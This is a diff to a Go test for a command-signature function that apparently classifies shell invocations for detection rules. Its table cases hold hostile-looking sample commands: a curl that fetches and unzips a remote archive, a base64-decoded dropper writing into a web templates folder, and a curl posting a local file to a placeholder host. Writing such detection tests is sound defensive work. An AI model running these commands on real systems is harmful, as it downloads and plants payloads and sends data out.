@@ -41,7 +41,11 @@ func TestCommandSig(t *testing.T) {
 		want string
 	}{
 		{"/usr/bin/dash", []string{"sh", "-c", "date -u"}, "dash|date -u"},
-		{"/usr/bin/dash", []string{"sh", "-c", "curl -fsS -o '/tmp/p.zip' 'http://h/p.zip' && unzip -o -q /tmp/p.zip"}, "dash|curl -fsS -o"},
+		{"/usr/bin/dash", []string{"sh", "-c", "curl -fsS -o '/tmp/p.zip' 'http://h/p.zip' && unzip -o -q /tmp/p.zip"}, "dash|curl -fsS -o; unzip"},
+		// the whole code makes the shape: a web shell's echo and a
+		// dropper's echo | base64 -d are two commands (berthplan-rules)
+		{"/usr/bin/dash", []string{"sh", "-c", "echo tide-ok"}, "dash|echo"},
+		{"/usr/bin/dash", []string{"sh", "-c", "echo eyUg | base64 -d > /srv/app/templates/t.html && ls -la /srv/app"}, "dash|echo; base64; ls"},
 		{"/usr/bin/dash", []string{"sh", "-c", "curl -s -m 5 -X POST -d @/tmp/w-1.json http://h/hook"}, "dash|curl -s -m -X -d"},
 		{"/usr/bin/dash", []string{"/bin/sh", "/usr/sbin/sendmail", "-t", "-i"}, "dash sendmail"},
 		{"/usr/bin/dash", []string{"/bin/sh", "/usr/local/bin/stocklabel", "--sku", "X"}, "dash stocklabel"},
